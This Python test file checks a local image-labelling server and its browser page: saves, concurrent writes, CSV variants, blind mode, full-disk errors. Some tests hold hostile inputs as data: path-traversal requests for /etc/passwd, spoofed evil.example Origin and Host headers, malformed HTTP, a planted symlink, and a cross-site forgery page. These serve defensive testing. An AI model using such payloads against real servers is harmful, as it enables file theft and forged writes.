"""The click page: its server (saves, refusals, blind mode) and the page in a real browser."""
import contextlib
import csv
import errno
import importlib.util
import json
import math
import os
import re
import socket
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest
from PIL import Image

import label
import train
from support import clicks, label_file, layout, maps, rasters
from support.cli import DataError
from support.label_server import ours
from tools.figures import BROWSER_FLAGS, open_label_page, screenshot


@contextlib.contextmanager
def serving(*args):
    """label.py with these arguments serving in a thread -> (base address, server)."""
    server = label.serve(label.get_args([*map(str, args), "--port", "0"]))
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()  # shutdown: 50 ms
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", server
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def label_server(tiny, tmp_path):
    """label.py serving two images of the tiny set (one cut to 90x60, so that x and y differ) with a
    clicks file and the tiny run's checkpoint -> (base address, clicks file, server)."""
    root = tmp_path / "photos"
    (root / "sub").mkdir(parents=True)
    image = layout.read_image(tiny / "Tile 1" / "images" / "image_part_001.jpg")[0]
    Image.fromarray(image[:60, :90]).save(root / "sub" / "wide.png")
    Image.fromarray(image).save(root / "square.jpg")
    (root / "classes.json").write_text((tiny / "classes.json").read_text())
    points = tmp_path / "clicks.csv"
    with serving(root, "--points", points) as (base, server):
        yield base, points, server


def request(url, body=None, headers=None):
    """-> (status, body bytes) of a GET, or of a POST of `body` (bytes)."""
    try:
        with urllib.request.urlopen(urllib.request.Request(url, body, headers or {}), timeout=30) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def change(base, server, click, **headers):
    """POST a click to /change as the page does (JSON, with the token), `headers` over those -> status."""
    page = {"Content-Type": "application/json", "X-Token": server.token}
    return request(base + "/change", json.dumps(click).encode(), {**page, **headers})[0]


def test_label_server_saves_reloads_and_refuses_bad_requests(label_server, capsys):
    base, points, server = label_server
    state = json.loads(request(base + "/state")[1])
    assert [i["name"] for i in state["images"]] == ["square.jpg", "sub/wide.png"]
    assert state["images"][1]["width"] == 90 and state["images"][1]["height"] == 60 and not state["model"]
    assert change(base, server, {"image": "sub/wide.png", "x": 80, "y": 5, "class": "Road"}) == 200
    assert points.read_text() == "image,x,y,class\nsub/wide.png,80,5,Road\n"  # saved at once
    # the file is what train.py reads
    info = {n: rasters.image_info(server.labels.root / n) for n in ["square.jpg", "sub/wide.png"]}
    assert clicks.read_clicks([points], info, layout.read_classes(server.labels.root)[0])[0] == \
        {"sub/wide.png": [(80, 5, 2)]}
    capsys.readouterr()
    bad = [("/../classes.json", None), ("/image/..%2F..%2Fclasses.json", None), ("/image/%2e%2e", None),
           ("/%2e%2e/%2e%2e/etc/passwd", None), ("//etc/passwd", None), ("/image/2", None),
           ("/image/-1", None),
           ("/map/0", None), ("/change", b"{not json"),  # /map: no model here
           ("/change", b'{"image": "sub/wide.png", "x": 90, "y": 0, "class": "Road"}'),
           ("/change", b'{"image": "../x.png", "x": 1, "y": 1, "class": "Road"}'),
           ("/change", b'{"image": "sub/wide.png", "x": 1.5, "y": 1, "class": "Road"}'),
           ("/change", b'{"image": "sub/wide.png", "x": 1, "y": 1, "class": "Lava"}'), ("/change", b"[1, 2]")]
    for path, body in bad:
        status, _ = request(base + path, body, {"Content-Type": "application/json", "X-Token": server.token})
        assert (status == 404) if body is None else (status == 400), (path, status)
    log = capsys.readouterr().err.strip().splitlines()
    assert len(log) == len(bad) and "Traceback" not in "".join(log)  # one line each
    assert points.read_text() == "image,x,y,class\nsub/wide.png,80,5,Road\n"  # untouched by them
    # two tabs at once: every change lands, and the file is always whole
    def tab(k):
        for y in range(10):
            change(base, server, {"image": "square.jpg", "x": k, "y": y, "class": "Water"})

    tabs = [threading.Thread(target=tab, args=(k,)) for k in range(4)]
    for t in tabs:
        t.start()
    for t in tabs:
        t.join()
    rows = list(csv.DictReader(open(points)))
    assert len(rows) == 41
    assert {(int(r["x"]), int(r["y"])) for r in rows[1:]} == {(k, y) for k in range(4) for y in range(10)}
    # a click on a point removes it; a new server (a reload) shows what was saved
    change(base, server, {"image": "sub/wide.png", "x": 80, "y": 5})
    again = label.Labels(server.labels.root, points, None, None, 3)
    assert len(again.clicks()) == 40 and ("sub/wide.png", 80, 5) not in [r[:3] for r in again.rows if r]


def test_label_server_saves_checks_and_removes_strokes(label_server, tmp_path, capsys):
    base, points, server = label_server
    assert change(base, server, {"image": "sub/wide.png", "x": 3, "y": 4, "class": "Road"}) == 200
    assert points.read_text() == "image,x,y,class\nsub/wide.png,3,4,Road\n"  # no stroke yet, no column
    line = [[3, 4], [5, 4], [7, 5], [89, 59]]  # its first vertex where the point is: each stays its own
    assert change(base, server, {"image": "sub/wide.png", "stroke": line, "class": "Water"}) == 200
    stroke = "".join(f"sub/wide.png,{x},{y},Water,1\n" for x, y in line)
    saved = "image,x,y,class,stroke\nsub/wide.png,3,4,Road,\n" + stroke
    assert points.read_text() == saved
    capsys.readouterr()
    many = [[i % 90, i // 90] for i in range(label.VERTICES + 1)]
    bad = [{"image": "sub/wide.png", "stroke": [[3, 4], [90, 0]], "class": "Water"},  # off the image
           {"image": "sub/wide.png", "stroke": [[3, 4], [-1, 0]], "class": "Water"},
           {"image": "sub/wide.png", "stroke": [[3, 4], [5.5, 0]], "class": "Water"},
           {"image": "sub/wide.png", "stroke": [[3, 4], [True, 0]], "class": "Water"},
           {"image": "sub/wide.png", "stroke": [[3, 4, 5]], "class": "Water"},
           {"image": "sub/wide.png", "stroke": [], "class": "Water"},
           {"image": "sub/wide.png", "stroke": [[3, 4]], "class": "Lava"},  # no such class
           {"image": "sub/wide.png", "stroke": [[3, 4]], "class": ""},
           {"image": "sub/wide.png", "stroke": many, "class": "Water"},  # too many vertices
           {"image": "sub/wide.png", "stroke": [[3, 4]]},  # a removal names a number
           {"image": "nowhere.png", "stroke": [[3, 4]], "class": "Water"}]
    assert [change(base, server, b) for b in bad] == [400] * len(bad)
    huge = {"image": "sub/wide.png", "stroke": [[10, 10]] * 30_000, "class": "Water"}  # over 256 kB
    assert change(base, server, huge) == 413
    log = capsys.readouterr().err.strip().splitlines()
    assert len(log) == len(bad) + 1 and "Traceback" not in "".join(log)  # one line each
    assert points.read_text() == saved  # untouched by them
    # a click on the point at the stroke's first vertex removes the point only; a second stroke is number 2
    assert change(base, server, {"image": "sub/wide.png", "x": 3, "y": 4}) == 200
    assert change(base, server, {"image": "square.jpg", "stroke": [[1, 1], [2, 2]], "class": "Road"}) == 200
    assert points.read_text() == "image,x,y,class,stroke\n" + stroke + \
        "square.jpg,1,1,Road,2\nsquare.jpg,2,2,Road,2\n"
    state = json.loads(request(base + "/state")[1])  # what a reload shows: the file, read another way
    assert state["clicks"] == [] and state["strokes"] == [
        {"image": "sub/wide.png", "stroke": 1, "class": "Water", "points": line},
        {"image": "square.jpg", "stroke": 2, "class": "Road", "points": [[1, 1], [2, 2]]}]
    assert change(base, server, {"image": "sub/wide.png", "stroke": 2}) == 200  # not this image's: kept
    assert change(base, server, {"image": "square.jpg", "stroke": 2}) == 200
    assert points.read_text() == "image,x,y,class,stroke\n" + stroke  # the column stays
    # read back: a stroke's rows are consecutive, of one class; its number whole; blind mode takes none
    root = server.labels.root
    for rows, said in [("a,1,1,Water,1\na,2,2,Water,\na,3,3,Water,1\n", "stroke 1 again"),
                       ("a,1,1,Water,1\na,2,2,Road,1\n", "stroke 1 again"),
                       ("a,1,1,Water,x\n", "stroke 'x': a stroke is a whole number"),
                       ("a,1,1,,3\n", "stroke '3': a stroke is a whole number from 0, with a class")]:
        (tmp_path / "bad.csv").write_text("image,x,y,class,stroke\n" + rows.replace("a,", "square.jpg,"))
        with pytest.raises(DataError, match=re.escape(said)):
            label.Labels(root, tmp_path / "bad.csv", None, None, 3)
    (tmp_path / "sample.csv").write_text("image,x,y,class,sample\nsquare.jpg,1,1,,1\n")
    with pytest.raises(ValueError, match="blind mode: a sample is points"):
        label.Labels(root, tmp_path / "sample.csv", None, None, 3).change(bad[0] | {"stroke": [[1, 1]]})


def test_label_server_takes_changes_only_from_its_own_page(label_server, capsys):
    base, points, server = label_server
    port, token = server.server_address[1], server.token
    click = {"image": "square.jpg", "x": 1, "y": 2, "class": "Water"}
    capsys.readouterr()
    writes = [{"Content-Type": "text/plain"},  # what a <form enctype="text/plain"> of another page sends
              {"Content-Type": "application/x-www-form-urlencoded"}, {"X-Token": ""}, {"X-Token": token[:-1]},
              {"Origin": f"http://127.0.0.1:{port + 1}"},  # another port is another site
              {"Origin": "null"},  # a local file
              {"Origin": f"http://evil.example:{port}"},
              {"Host": f"evil.example:{port}"}]  # DNS rebinding: our address under the attacker's name
    reads = [("/state", {"Host": f"evil.example:{port}"}), ("/image/0", {"Host": f"evil.example:{port}"}),
             ("/", {"Host": f"127.0.0.1:{port + 1}"}), ("/state", {"Host": "127.0.0.1"}),
             ("/state", {"Origin": "http://evil.example"})]
    assert [change(base, server, click, **h) for h in writes] == [403] * len(writes)
    assert [request(base + path, None, h)[0] for path, h in reads] == [403] * len(reads)
    log = capsys.readouterr().err.splitlines()
    assert len(log) == len(writes) + len(reads) and all("403, message refused: " in line for line in log)
    assert not points.exists()  # nothing written
    for host in [f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", f"LocalHost:{port}"]:
        assert request(base + "/state", None, {"Host": host})[0] == 200, host
    assert change(base, server, click, Origin=f"http://localhost:{port}") == 200
    assert points.read_text() == "image,x,y,class\nsquare.jpg,1,2,Water\n"
    # on every address: a warning, and any IP address is ours, a name still is not
    everywhere = label.serve(label.get_args([str(server.labels.root), "--points", str(points),
                                             "--host", "0.0.0.0", "--port", "0"]))
    port = everywhere.server_address[1]
    assert capsys.readouterr().out == f"warning: --host 0.0.0.0: anyone who can reach port {port} can read " \
        "the images and, with the token, write clicks\n"
    addresses = [f"10.1.2.3:{port}", f"localhost:{port}", f"evil.example:{port}", f"10.1.2.3:{port + 1}"]
    assert [ours(a, everywhere) for a in addresses] == [True, True, False, False]
    everywhere.server_close()


def test_label_server_writes_back_every_row_and_column(label_server, tmp_path):
    root = label_server[2].labels.root
    # predict.py's suggestions: images as given to it, the class empty, the model's hint and margin
    rows = [(str(root / "square.jpg"), 5, 6, 0, 0.01), (str(root / "sub/wide.png"), 7, 8, 1, 0.02),
            (str(root / "square.jpg"), 9, 10, 2, 0.03), (str(root / "sub/wide.png"), 11, 12, 0, 0.5)]
    given = clicks.write_suggestions(tmp_path, rows, ["Water", "Road", "Building"], {})[0]
    before = given.read_bytes().splitlines(keepends=True)
    labels = label.Labels(root, given, None, None, 3)
    assert [(c["x"], c["class"]) for c in labels.clicks()] == [(5, ""), (7, ""), (9, ""), (11, "")]  # shown
    labels.change({"image": "sub/wide.png", "x": 7, "y": 8, "class": "Water"})  # fills its row in
    labels.change({"image": "square.jpg", "x": 9, "y": 10})  # removes its row
    labels.change({"image": "sub/wide.png", "x": 1, "y": 2, "class": "Road"})  # a new row, the rest empty
    expected = [*before[:2], before[2].replace(b",7,8,,", b",7,8,Water,"), before[4],
                b"sub/wide.png,1,2,Road,,\r\n"]
    assert given.read_bytes() == b"".join(expected)
    info = {n: rasters.image_info(root / n) for n in ["square.jpg", "sub/wide.png"]}
    assert clicks.read_clicks([given], info, labels.names)[0] == {"sub/wide.png": [(7, 8, 0), (1, 2, 2)]}
    # Excel's "CSV UTF-8" (a byte-order mark), "\n" line ends, ';' with 'Image' (Excel where the comma is
    # the decimal mark) and "Unicode text" (UTF-16, tabs) are written back as they were, a stroke too
    for text, added, first, encoding in [
            ("\ufeffimage,x,y,class,note\r\nsquare.jpg,3,4,Water,\"a, b\"\r\n",
             "square.jpg,3,5,Building,\r\n", "Water", "utf-8"),
            ("image,x,y,class\nsquare.jpg,3,4,2\n", "square.jpg,3,5,Building\n", "Road", "utf-8"),
            ("Image;X;Y;Class\r\nsquare.jpg;3;4;Water\r\n", "square.jpg;3;5;Building\r\n", "Water", "utf-8"),
            ("image\tx\ty\tclass\r\nsquare.jpg\t3\t4\tWater\r\n", "square.jpg\t3\t5\tBuilding\r\n", "Water",
             "utf-16")]:
        path = tmp_path / "excel.csv"
        path.write_bytes(text.encode(encoding))
        labels = label.Labels(root, path, None, None, 3)
        assert labels.clicks() == [{"image": "square.jpg", "x": 3, "y": 4, "class": first}]  # 2: class 2
        labels.change({"image": "square.jpg", "x": 3, "y": 5, "class": "Building"})
        assert path.read_bytes() == (text + added).encode(encoding)
    labels.change({"image": "square.jpg", "stroke": [[1, 1], [1, 3]], "class": "Road"})
    header, *_, last = path.read_bytes().decode("utf-16").splitlines()
    assert header == "image\tx\ty\tclass\tstroke" and last == "square.jpg\t1\t3\tRoad\t1"
    assert clicks.read_clicks([path], info, labels.names)[0]["square.jpg"][:2] == [(3, 4, 0), (3, 5, 3)]
    # GeoJSON is refused at start, whatever its name: the page writes CSV
    for name, text in [("points.csv", '{"type": "FeatureCollection", "features": []}'),
                       ("p.geojson", "\n [ ]\n")]:
        (tmp_path / name).write_text(text)
        with pytest.raises(DataError, match=f"{name}: GeoJSON, and the page reads and writes CSV") as e:
            label.Labels(root, tmp_path / name, None, None, 3)
        assert "\n" not in str(e.value) and (tmp_path / name).read_text() == text


def test_label_server_on_a_full_disk_keeps_what_is_saved(label_server, monkeypatch, capsys):
    base, points, server = label_server
    first = {"image": "square.jpg", "x": 1, "y": 2, "class": "Water"}
    assert change(base, server, first) == 200
    saved = points.read_bytes()

    def full(handle):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    capsys.readouterr()
    assert change(base, server, {"image": "square.jpg", "x": 3, "y": 4, "class": "Building"}) == 507
    log = capsys.readouterr().err.splitlines()
    assert len(log) == 1 and "507, message not saved: No space left on device" in log[0]
    assert points.read_bytes() == saved
    assert [p.name for p in points.parent.iterdir() if p.name.startswith(points.name)] == [points.name]
    assert json.loads(request(base + "/state")[1])["clicks"] == [first]  # as a reload shows: what is on disk
    monkeypatch.undo()
    assert change(base, server, {"image": "square.jpg", "x": 5, "y": 6, "class": "Building"}) == 200
    assert points.read_text() == "image,x,y,class\nsquare.jpg,1,2,Water\nsquare.jpg,5,6,Building\n"


def test_label_server_answers_requests_it_does_not_expect_with_a_4xx(label_server, tmp_path, capsys):
    base, points, server = label_server
    port, click = server.server_address[1], b'{"image": "square.jpg", "x": 1, "y": 2, "class": "Water"}'
    head = f"POST /change HTTP/1.0\r\nHost: 127.0.0.1:{port}\r\nContent-Type: application/json\r\n" \
           f"X-Token: {server.token}\r\n"
    sent = [(head + "Content-Length: -1\r\n", click + b" " * 20_000, 400),  # else read to the end: 20 kB
            (head + "Content-Length: 58a\r\n", click, 400), (head, click, 411),
            (head + "Content-Length: 10000\r\n", b"[" * 5000 + b"]" * 5000, 400),  # too deep for json
            (head + "Content-Length: 63\r\n", click.replace(b"Water", "水".encode()), 400),  # not Latin-1
            (f"GET /image/\xb2 HTTP/1.0\r\nHost: 127.0.0.1:{port}\r\n", b"", 400),  # '²'.isdigit()
            ("GET /state HTTP/1.0\r\n", b"", 403)]  # no Host
    capsys.readouterr()
    for text, body, status in sent:
        with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
            s.sendall(text.encode("latin-1") + b"\r\n" + body)
            with contextlib.suppress(OSError):  # the server may have answered and closed already
                s.shutdown(socket.SHUT_WR)
            reply = s.makefile("rb").readline()
        assert reply.startswith(f"HTTP/1.0 {status} ".encode()), (text, body[:20], reply)
    log = capsys.readouterr().err.splitlines()
    assert len(log) == len(sent) and "Traceback" not in "".join(log)  # one line each
    assert not points.exists() and request(base + "/state")[0] == 200  # nothing saved, and still serving
    # a link planted where a fixed temporary file would be is not followed; the file keeps its mode
    victim, kept = tmp_path / "victim.txt", tmp_path / "kept.csv"
    victim.write_text("mine")
    kept.write_text("image,x,y,class\n")
    kept.chmod(0o640)
    (tmp_path / "kept.csv.tmp").symlink_to(victim)
    label.Labels(server.labels.root, kept, None, None, 3).change(json.loads(click))
    assert victim.read_text() == "mine" and kept.read_text() == "image,x,y,class\nsquare.jpg,1,2,Water\n"
    assert kept.stat().st_mode & 0o777 == 0o640 and not kept.is_symlink()
    # bad flag values: one line each, before anything starts
    start = [str(server.labels.root), "--points", str(kept), "--port", "0"]
    for flags, said in [(["--suggest", "-5"], "--suggest -5: "), (["--classes", " , "], "--classes ' , ': ")]:
        with pytest.raises(DataError, match=re.escape(said)) as e:
            label.serve(label.get_args(start + flags))
        assert "\n" not in str(e.value)


def test_label_blind_mode_shows_and_takes_the_sample_points_only(label_server, tiny_run, tmp_path, capsys):
    root = label_server[2].labels.root
    sample = tmp_path / "sample.csv"  # assess.py's: images as given to predict.py, the class empty
    text = f"image,x,y,class,sample\r\n{root / 'sub/wide.png'},80,5,,1\r\n{root / 'square.jpg'},3,4,,2\r\n"
    sample.write_bytes(text.encode())
    with serving(root, "--points", sample, "--ckpt", tiny_run[1] / "ckpt.pt") as (base, server):
        assert "ignored" in capsys.readouterr().out  # the map would tell the person what to answer
        state = json.loads(request(base + "/state")[1])
        assert state["blind"] and not state["model"]
        assert state["clicks"] == [{"image": "sub/wide.png", "x": 80, "y": 5, "class": "", "sample": 1},
                                   {"image": "square.jpg", "x": 3, "y": 4, "class": "", "sample": 2}]
        assert request(base + "/map/0")[0] != 200 and request(base + "/suggestions/0")[0] != 200
        assert change(base, server, {"image": "square.jpg", "x": 9, "y": 9, "class": "Road"}) == 400  # off it
        assert change(base, server, {"image": "square.jpg", "x": 3, "y": 4}) == 400  # none removed
        assert sample.read_bytes() == text.encode()
        assert change(base, server, {"image": "square.jpg", "x": 3, "y": 4, "class": "Road"}) == 200
    assert sample.read_bytes() == text.replace(",3,4,,2", ",3,4,Road,2").encode()


def test_label_servers_on_one_file_keep_each_others_rows(label_server):
    base, points, server = label_server
    other = label.Labels(server.labels.root, points, None, None, 3)  # a second label.py on the same file

    def clicks_of(labels, x):
        for y in range(15):
            labels.change({"image": "square.jpg", "x": x, "y": y, "class": "Water"})

    both = [threading.Thread(target=clicks_of, args=pair) for pair in [(server.labels, 1), (other, 2)]]
    for t in both:
        t.start()
    for t in both:
        t.join()
    with open(points, "a") as f:  # a person adds a row by hand: the next click keeps it
        f.write("sub/wide.png,9,9,Road\n")
    assert change(base, server, {"image": "sub/wide.png", "x": 1, "y": 1, "class": "Water"}) == 200
    rows = list(csv.reader(open(points)))[1:]
    assert len(rows) == 32 and {(r[1], r[2]) for r in rows[:30]} == {(str(x), str(y)) for x in (1, 2)
                                                                     for y in range(15)}
    assert rows[30:] == [["sub/wide.png", "9", "9", "Road"], ["sub/wide.png", "1", "1", "Water"]]
    # a page that has not seen them gets them all; one that has, what its change made
    assert "state" in label_saved(base, server, {"image": "square.jpg", "x": 7, "y": 7})
    seen = json.loads(request(base + "/state")[1])["version"]
    road = {"image": "square.jpg", "x": 7, "y": 7, "class": "Road"}
    assert label_saved(base, server, road | {"version": seen}) == {"clicks": [road], "version": seen + 1}
    # a hand edit the page cannot read: a 409 with its reason, and the file as the person left it
    with open(points, "a") as f:
        f.write("square.jpg,3,3,Lava\n")
    text = points.read_text()
    assert change(base, server, {"image": "square.jpg", "x": 4, "y": 4, "class": "Water"}) == 409
    assert points.read_text() == text


def label_saved(base, server, click):
    """POST a change as the page does -> what the server answers (JSON)."""
    page = {"Content-Type": "application/json", "X-Token": server.token}
    status, body = request(base + "/change", json.dumps(click).encode(), page)
    assert status == 200, body
    return json.loads(body)


def test_label_server_checks_each_click_against_the_image_as_it_is_now(label_server, capsys):
    base, points, server = label_server
    wide = server.labels.root / "sub" / "wide.png"
    Image.new("RGB", (45, 30)).save(wide)  # re-exported smaller while the page is open
    capsys.readouterr()
    assert change(base, server, {"image": "sub/wide.png", "x": 80, "y": 5, "class": "Road"}) == 400
    assert change(base, server, {"image": "sub/wide.png", "x": 40, "y": 5, "class": "Road"}) == 200
    wide.unlink()  # gone: one line, nothing written
    assert change(base, server, {"image": "sub/wide.png", "x": 41, "y": 5, "class": "Road"}) == 409
    log = capsys.readouterr().err.splitlines()
    assert "(80, 5) is outside sub/wide.png (45x30)" in log[0] and "409, message not saved: " in log[2]
    assert points.read_text() == "image,x,y,class\nsub/wide.png,40,5,Road\n"


def test_label_server_saves_a_click_without_going_through_every_row(label_server, tmp_path, monkeypatch):
    root = label_server[2].labels.root
    big = tmp_path / "big.csv"  # 50,000 rows: making each again in Python takes a tenth of a second
    big.write_text("image,x,y,class\n" + "".join(f"square.jpg,{i % 96},{i // 96 % 96},Water\n"
                                                 for i in range(50_000)))
    labels = label.Labels(root, big, None, None, 3)
    monkeypatch.setattr(os, "fsync", lambda handle: None)  # the disk's time is not the code's
    took = []
    for x in range(5):  # as the page sends them: with the version of the clicks it shows
        start = time.perf_counter()
        road = {"image": "sub/wide.png", "x": x, "y": 0, "class": "Road"}
        saved = labels.change(road | {"version": labels.version})
        took.append(time.perf_counter() - start)
        assert saved["clicks"] == [road]
    reading = []  # the time of going through every row once, csv's C reader, on this machine as loaded now
    for _ in range(3):
        start = time.perf_counter()
        list(csv.DictReader(big.open()))
        reading.append(time.perf_counter() - start)
    assert sorted(took)[2] < min(reading) / 4, (took, reading)
    text = big.read_text().splitlines()
    assert len(text) == 50_006 and text[-1] == "sub/wide.png,4,0,Road" and text[1] == "square.jpg,0,0,Water"
    monkeypatch.setattr(label_file, "ROWS", 10_000)  # past the limit: one line saying what to do
    with pytest.raises(DataError, match="50,005 rows, and the page opens 10,000 at most: click into a new"):
        label.Labels(root, big, None, None, 3)


def test_label_server_reads_and_writes_back_a_field_of_any_length(label_server):
    root, points = label_server[2].labels.root, label_server[1]
    wkt = "POLYGON ((" + ", ".join(f"{i} {i}" for i in range(15_770)) + "))"  # 166,520 characters
    points.write_text(f'image,x,y,class,wkt\nsquare.jpg,1,2,Water,"{wkt}"\n')
    labels = label.Labels(root, points, None, None, 3)
    labels.change({"image": "square.jpg", "x": 3, "y": 4, "class": "Road"})
    assert points.read_text() == f'image,x,y,class,wkt\nsquare.jpg,1,2,Water,"{wkt}"\nsquare.jpg,3,4,Road,\n'
    assert clicks.read_table(points)[0][0]["wkt"] == wkt  # and train.py's reader


def test_label_server_answers_huge_images_and_odd_names_in_one_line(label_server, monkeypatch, capsys):
    base, points, server = label_server
    root = server.labels.root

    def too_large(path):  # what a header declaring 30000x30000 pixels ends in, where memory is short
        raise MemoryError()

    monkeypatch.setattr(rasters, "read_scene", too_large)
    capsys.readouterr()
    assert request(base + "/image/0")[0] == 422 and request(base + "/state")[0] == 200  # and still serving
    assert "422, message " in capsys.readouterr().err.splitlines()[0]
    monkeypatch.undo()
    # an image whose name is not UTF-8: left out, in one line (a clicks file could not name it)
    Image.new("RGB", (8, 8)).save(root / os.fsdecode(b"caf\xe9.png"))
    labels = label.Labels(root, points, None, None, 3)
    assert [n for n, _ in labels.files] == ["square.jpg", "sub/wide.png"]
    assert capsys.readouterr().out.count("its name is not UTF-8: rename it") == 1


def test_label_server_maps_each_image_once(label_server, tiny_run, tmp_path, monkeypatch):
    root, passes, mapped = label_server[2].labels.root, [], maps.map_in_blocks
    monkeypatch.setattr(maps, "map_in_blocks", lambda *a, **k: passes.append(1) or mapped(*a, **k))
    with serving(root, "--labels", tmp_path / "new.csv", "--ckpt", tiny_run[1] / "ckpt.pt") as (base, server):
        for i in [0, 1, 0, 1]:  # an image, the next, back: the page asks for map and suggestions at once
            asked = [threading.Thread(target=request, args=(f"{base}/{what}/{i}",))
                     for what in ("image", "map", "suggestions")]
            for t in asked:
                t.start()
            for t in asked:
                t.join()
        assert len(json.loads(request(base + "/suggestions/1")[1])) > 0
    assert len(passes) == 2


def test_label_classes_keep_the_order_given_saved_beside_the_clicks_for_train(tmp_path, capsys):
    root, points = tmp_path / "photos", tmp_path / "work" / "clicks.csv"
    root.mkdir()
    Image.new("RGB", (40, 30)).save(root / "a.png")
    names = ["Water", "Land", "Road", "Building", "Vegetation"]
    with serving(root, "--labels", points, "--classes", ",".join(names)) as (base, server):
        state = json.loads(request(base + "/state")[1])
        assert change(base, server, {"image": "a.png", "x": 1, "y": 1, "class": "Road"}) == 200
    assert [c["name"] for c in state["classes"]] == names  # key 1 is Water
    # the usual colours: water blue, bare land tan, roads grey, buildings red, vegetation green
    colours = ["#1F77B4", "#D2B48C", "#7F7F7F", "#D62728", "#2CA02C"]
    assert [c["colour"] for c in state["classes"]] == colours
    assert f"-> {points.parent / 'classes.json'}" in capsys.readouterr().out
    rgb = [layout.hex_to_rgb(h) for h in colours]
    assert layout.read_classes(points.parent) == (names, rgb)
    # the next start needs no --classes, takes the same again, and refuses others in one line
    for given in [None, ",".join(names)]:
        labels = label.Labels(root, points, given, None, 3)
        assert (labels.names, labels.colours) == (names, rgb)
    with pytest.raises(DataError, match="classes.json names others .* leave --classes out"):
        label.Labels(root, points, "Land,Water", None, 3)
    # train.py from these clicks, with no ROOT/classes.json: the page's order and colours
    run = layout.run_data(train.get_args(["--data", str(root), "--point-labels", str(points)]), root)
    assert (run["classes"], run["colours"]) == (names, rgb) and run["points"] == [(0, 1, 1, 2)]


def test_label_takes_the_clicks_file_by_train_flag_name():
    for flag in ["--point-labels", "--labels", "--points"]:  # train.py's names; --points as before
        assert label.get_args(["photos", flag, "clicks.csv"]).labels == "clicks.csv"


def chromium_missing():
    return importlib.util.find_spec("playwright") is None or not Path("/usr/bin/chromium").exists()


@pytest.fixture(scope="module")
def chromium():
    """One headless Chromium for the browser tests of this file (each launch costs seconds)."""
    if chromium_missing():
        pytest.skip("needs Chromium and Playwright: apt-get install -y chromium && pip install playwright")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=BROWSER_FLAGS)
        yield Tabs(browser)
        browser.close()


class Tabs:
    """The browser, whose new tabs set the page's policy aside: Playwright's wait_for_function evaluates
    its text in the page, which the policy forbids. The policy's own test opens a tab of .browser."""

    def __init__(self, browser):
        self.browser = browser

    def new_page(self, **options):
        return self.browser.new_page(**{"bypass_csp": True, **options})


def click_on_the_page(page):
    """Press 3, click the canvas twice at one place (add, then remove) -> dict: box, the client
    position clicked, toImage there, nearest() near and far from the point, the clicks after the add."""
    seen = {}
    page.keyboard.press("3")
    box = page.locator("canvas").bounding_box()
    seen["box"], scale = box, box["width"] / 90  # CSS pixels per image pixel
    # 2 CSS pixels right of and below the centre of image pixel (54, 16)
    at = seen["at"] = (box["x"] + 54.5 * scale + 2, box["y"] + 16.5 * scale + 2)
    seen["toImage"] = page.evaluate(f"toImage({at[0]}, {at[1]})")
    page.mouse.click(*at)
    page.wait_for_function("S.clicks.length === 1")
    seen["nearest"] = [page.evaluate(f"nearest(here(), {at[0] + d}, {at[1] - d})") for d in (2, 9)]
    seen["after add"] = page.evaluate("S.clicks")
    page.mouse.click(*at)
    page.wait_for_function("S.clicks.length === 0")
    return seen


# another site's page: a form posting text/plain that reads as JSON, and a no-cors fetch
ATTACK = """<!doctype html><form method="post" enctype="text/plain" action="{base}/change">
<input name='{{"image": "square.jpg", "x": 7, "y": 7, "class": "Water", "pad": "' value='"}}'></form>
<script>fetch("{base}/change", {{mode: "no-cors", method: "POST",
  body: '{{"image": "square.jpg", "x": 8, "y": 8, "class": "Water"}}'}})
  .finally(() => document.forms[0].submit());
</script>"""


def test_label_page_in_a_browser_saves_its_own_clicks_only(chromium, label_server, tmp_path, monkeypatch,
                                                            capsys):
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    base, points, server = label_server

    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self):
            page = ATTACK.format(base=base).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

    other = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=other.serve_forever, args=(0.05,), daemon=True).start()
    tab = chromium.new_page()
    tab.goto(f"http://127.0.0.1:{other.server_address[1]}/")
    tab.wait_for_url(base + "/change")  # the form was sent, after the fetch
    other.shutdown()
    other.server_close()
    tab.close()
    refused = [line for line in capsys.readouterr().err.splitlines() if '"POST /change' in line]
    assert len(refused) == 2 and all("403, message refused: " in line for line in refused)
    assert not points.exists()
    # the page itself: the right pixel, saved
    page = open_label_page(chromium, f"{base}/#token={server.token}", image=1)  # the second image: 90x60
    seen = click_on_the_page(page)
    box, (cx, cy) = seen["box"], seen["at"]
    # the reference: the canvas box is the whole 90x60 image, so a client position maps proportionally
    x, y = math.floor((cx - box["x"]) * 90 / box["width"]), math.floor((cy - box["y"]) * 60 / box["height"])
    assert abs(box["width"] / box["height"] - 90 / 60) < 0.02  # the box has the image's shape
    assert seen["toImage"] == {"x": x, "y": y} and (x, y) == (54, 16)
    assert seen["after add"] == [{"image": "sub/wide.png", "x": x, "y": y, "class": "Road"}]  # key 3: class 2
    assert seen["nearest"] == [seen["after add"][0], None]  # 4 CSS pixels from the point, and 11
    assert points.read_text() == "image,x,y,class\n"  # the second click removed it
    # a full disk: the page says so, and shows what the file holds
    monkeypatch.setattr(os, "fsync", lambda handle: exec("raise OSError(28, 'No space left on device')"))
    page.mouse.click(cx, cy)
    page.wait_for_function("document.getElementById('status').textContent.startsWith('not saved: 507')")
    assert page.evaluate("S.clicks") == [] and points.read_text() == "image,x,y,class\n"
    monkeypatch.undo()
    page.close()
    screenshot(chromium, base + "/", tmp_path / "page.png", image=1)  # as README's picture is taken
    assert Image.open(tmp_path / "page.png").size == (900, 700)


def colour_between(page, a, b):
    """The colour ('#RRGGBB') the page's canvas shows halfway between the centres of image pixels a and b."""
    rgb = page.evaluate("""([x, y]) => { const d = window.devicePixelRatio || 1, c = toCanvas(x, y);
